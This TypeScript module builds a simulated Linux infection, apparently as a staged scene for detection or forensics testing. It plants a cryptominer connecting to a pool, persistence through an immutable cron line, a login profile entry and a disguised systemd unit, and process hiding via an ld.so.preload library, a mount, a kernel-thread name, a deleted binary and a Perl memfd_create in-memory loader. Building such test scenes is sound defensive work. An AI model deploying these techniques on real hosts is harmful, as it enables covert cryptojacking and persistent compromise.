import { existsSync } from 'node:fs';
import { type HidesNames, LISTED_NOT, settingsText } from './hides-names.ts';
import { hidingLibrary } from './hiding-library.ts';
import { minerArguments, minerScript, starterScript } from './inside/miner-script.ts';
import { badLine } from './noisy-infection.ts';
import { POOL } from './places.ts';
import type { Part, PlantedFile, PlantedProcess } from './scene.ts';
import type { Stage } from './stage.ts';

/** A whole copy of bash in memory, then that program instead of this one. `perl -e … PROGRAM NAME ARGUMENT…` */
const FROM_MEMORY = String.raw`my ($from, $name) = splice @ARGV, 0, 2;
my $fd = syscall(${process.arch === 'arm64' ? 279 : 319}, $name, 0);
die "no memfd\n" if $fd < 0;
open my $in, '<:raw', $from or die; open my $out, '>&=:raw', $fd or die;
local $/; print {$out} <$in>; $out->flush;
exec { "/proc/self/fd/$fd" } $name, @ARGV;`;

/**
 * One miner that works, and four processes that each hide in another way: left out of listings by a preloaded
 * library, behind a mount, under the name of a kernel thread, with a deleted and with no program file at all.
 */
export function hidesInfection(names: HidesNames, stage: Stage): { parts: Part[]; notes: string[] } {
  const { folder } = names;
  const unitFile = `/etc/systemd/system/${names.unit}`;
  const settings = `${folder}/config.json`;
  const script = `${folder}/${names.script}`;
  const quiet = `${folder}/rc.d`;
  const notes: string[] = [];
  const file = (what: string, path: string, text: string, more: Partial<PlantedFile> = {}): Part => ({
    ...{ kind: 'file', role: 'infection', what, path, text, mode: 0o755, ...more },
  });
  const program = (what: string, path: string): Part => ({
    ...{ kind: 'file', role: 'infection', what, path, copyOf: '/bin/bash', mode: 0o755 },
  });
  const run = (what: string, argv: readonly string[], more: Partial<PlantedProcess> = {}): Part => ({
    ...{
      kind: 'process',
      role: 'infection',
      what,
      file: argv[0] ?? '',
      args: argv.slice(1),
      workingFolder: '/',
    },
    ...{ environment: { STARTED_BY: 'intrusion' }, saysThatItRuns: true, ...more },
  });
  const library = canHide(notes);
  const memory = canRunFromMemory(notes);
  const parts: Part[] = [
    { kind: 'file', role: 'stage', what: 'folder', path: folder, isFolder: true, mode: 0o755 },
    { kind: 'file', role: 'stage', what: 'lock', path: `${folder}/.lock`, text: '', mode: 0o666 },
    program('miner program', `${folder}/${names.program}`),
    program('second program', `${folder}/${names.second}`),
    file('miner script', script, minerScript()),
    file('quiet script', quiet, minerScript({ burnsMicroseconds: 4_000 })),
    file('miner settings', settings, settingsText(names), { mode: 0o644 }),
    file('starter', names.starter, starterScript(names)),
    file(
      'cron file that cannot be changed',
      names.cronFile,
      `* * * * * root ${names.starter} cron.d >/dev/null 2>&1\n`,
      {
        ...{ mode: 0o644, ...(stage.mode === 'root' ? { isImmutable: true } : {}) },
      },
    ),
    file('start of every login', names.profile, `(${names.starter} profile >/dev/null 2>&1 &)\n`, {
      mode: 0o644,
    }),
    file(
      ...(['systemd unit', unitFile] as const),
      `[Unit]\nDescription=Cache of device events\n\n[Service]\nType=forking\nExecStart=${names.starter} unit\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n`,
      { mode: 0o644 },
    ),
    {
      ...{ kind: 'link', role: 'infection', what: 'unit enabled', target: unitFile },
      path: `/etc/systemd/system/multi-user.target.wants/${names.unit}`,
    },
    // Program and working folder are gone once it runs.
    {
      kind: 'file',
      role: 'stage',
      what: 'folder',
      path: names.gone,
      isFolder: true,
      mode: 0o755,
      isGoneInTheEnd: true,
    },
    {
      ...{
        kind: 'file',
        role: 'stage',
        what: 'program',
        path: `${names.gone}/agent`,
        copyOf: '/bin/bash',
        mode: 0o755,
      },
      isGoneInTheEnd: true,
    },
    {
      ...run(LISTED_NOT, [
        ...['/bin/sh', '-c', 'exec 9>> "$1" && flock -n 9 && shift && exec "$@"', 'sh', `${folder}/.lock`],
        ...[`${folder}/${names.program}`, ...minerArguments(names)],
      ]),
      ...{ niceness: 19, connectsTo: `${POOL.address}:${POOL.port}` },
    } as Part,
    run('process behind a mount', [`${folder}/${names.second}`, quiet, '-c', settings]),
    run(
      'process named like a kernel thread',
      [`${folder}/${names.second}`, quiet, '-n', names.thread.slice(1, -1), '-c', settings],
      {
        calledAs: names.thread,
      },
    ),
    run('process with a deleted program', [`${names.gone}/agent`, quiet, '-c', settings], {
      workingFolder: names.gone,
    }),
    ...(memory
      ? [
          run('process that is in memory only', [
            memory,
            '-e',
            FROM_MEMORY,
            '/bin/bash',
            names.inMemory,
            quiet,
            '-c',
            settings,
          ]),
        ]
      : []),
    { kind: 'mount', role: 'infection', what: 'mount over a process', over: 'process behind a mount' },
  ];
  if (library) {
    parts.push(
      {
        ...{ kind: 'file', role: 'infection', what: 'preloaded library', path: names.library, mode: 0o755 },
        ...{ base64: hidingLibrary().toString('base64'), hidesProcess: LISTED_NOT },
      },
      {
        ...badLine('/etc/ld.so.preload', 0o644, { what: 'preload line', text: names.library }),
        isLate: true,
      },
    );
  }
  return { parts, notes };
}

function canHide(notes: string[]): boolean {
  if (process.arch === 'x64') return true;
  notes.push('the library that hides a process is written for x86-64 only, so every process is listed here');
  return false;
}

/** What can call memfd_create(2) without a program of ours. */
function canRunFromMemory(notes: string[]): string | null {
  const perl = existsSync('/usr/bin/perl') ? '/usr/bin/perl' : null;
  if (perl === null) notes.push('there is no perl here, so no process runs from memory only');
  return perl;
}
